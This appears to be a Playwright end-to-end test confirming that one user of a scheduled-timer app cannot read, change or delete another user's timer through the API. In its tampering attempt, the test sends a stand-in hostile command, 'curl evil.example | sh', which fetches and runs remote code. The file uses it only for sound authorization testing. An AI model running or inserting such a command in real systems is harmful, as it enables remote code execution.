import type { Page } from '@playwright/test';
import { expect, recordAuthorized, signIn, test, type E2eStack } from '../fixtures.ts';

const DRAFT = {
  name: 'A’s private backup',
  hour: 3,
  minute: 15,
  daysOfWeek: ['MON'],
  executionCommand: '/usr/local/bin/backup --secret',
};

/** The fixture's sign-in, as the test's second user. */
const asOther = (e2e: E2eStack): E2eStack => ({ ...e2e, user: e2e.otherUser });

/** fetch() from inside the page, with the token the app itself sent (the page's own origin). */
async function apiFromPage(
  page: Page,
  url: string,
  authorization: string,
  init: { method?: string; body?: unknown } = {},
): Promise<{ status: number; body: unknown }> {
  return page.evaluate(
    async ({ url, authorization, method, body }) => {
      const response = await fetch(url, {
        method: method ?? 'GET',
        // A PUT needs If-Match (else 428): `*` takes it to the ownership check.
        headers: {
          authorization,
          'content-type': 'application/json',
          ...(method === 'PUT' ? { 'if-match': '*' } : {}),
        },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      const text = await response.text();
      return { status: response.status, body: text ? JSON.parse(text) : null };
    },
    { url, authorization, method: init.method, body: init.body },
  );
}

test('two users on one API: B never sees or touches A’s timers, even calling the API directly', async ({
  browser,
  e2e,
}) => {
  const contextA = await browser.newContext();
  const contextB = await browser.newContext();
  try {
    const pageA = await contextA.newPage();
    const sentByA = recordAuthorized(pageA);
    await pageA.goto(`${e2e.app.url}/sign-in`);
    await signIn(pageA, e2e);
    await expect(pageA).toHaveURL(`${e2e.app.url}/timers`);
    await expect.poll(() => sentByA.length).toBeGreaterThan(0);
    const tokenA = sentByA[0]!.authorization;
    const created = await apiFromPage(pageA, `${e2e.stack.urls.gateway}/tasks`, tokenA, {
      method: 'POST',
      body: DRAFT,
    });
    expect(created.status).toBe(201);
    const id = (created.body as { id: string }).id;
    await pageA.reload();
    await expect(pageA.getByTestId('timer-list')).toContainText(DRAFT.name);

    const pageB = await contextB.newPage();
    const sentByB = recordAuthorized(pageB);
    await pageB.goto(`${e2e.app.url}/sign-in`);
    await signIn(pageB, asOther(e2e));
    await expect(pageB).toHaveURL(`${e2e.app.url}/timers`);
    await expect(pageB.getByTestId('empty-state')).toBeVisible();
    await expect(pageB.getByText(DRAFT.name)).toHaveCount(0);
    await expect.poll(() => sentByB.length).toBeGreaterThan(0);
    const tokenB = sentByB[0]!.authorization;
    expect(tokenB).not.toBe(tokenA);

    // B, knowing A's id, calls the API directly: every answer is the one for a missing id.
    const item = `${e2e.stack.urls.gateway}/tasks/${encodeURIComponent(id)}`;
    for (const [method, body] of [
      ['GET', undefined],
      ['PUT', { ...DRAFT, executionCommand: 'curl evil.example | sh' }],
      ['DELETE', undefined],
    ] as const) {
      const answer = await apiFromPage(pageB, item, tokenB, { method, body });
      expect(answer.status, `${method} by B`).toBe(404);
    }
    // B's page, opened on A's id, shows no data of A's.
    await pageB.goto(`${e2e.app.url}/timers/${encodeURIComponent(id)}`);
    await expect(pageB.getByText(DRAFT.executionCommand)).toHaveCount(0);

    // A's timer is intact.
    const mine = await apiFromPage(pageA, item, tokenA);
    expect(mine.status).toBe(200);
    expect(mine.body).toMatchObject(DRAFT);
    await pageA.reload();
    await expect(pageA.getByTestId('timer-list')).toContainText(DRAFT.name);
  } finally {
    await contextA.close();
    await contextB.close();
  }
});
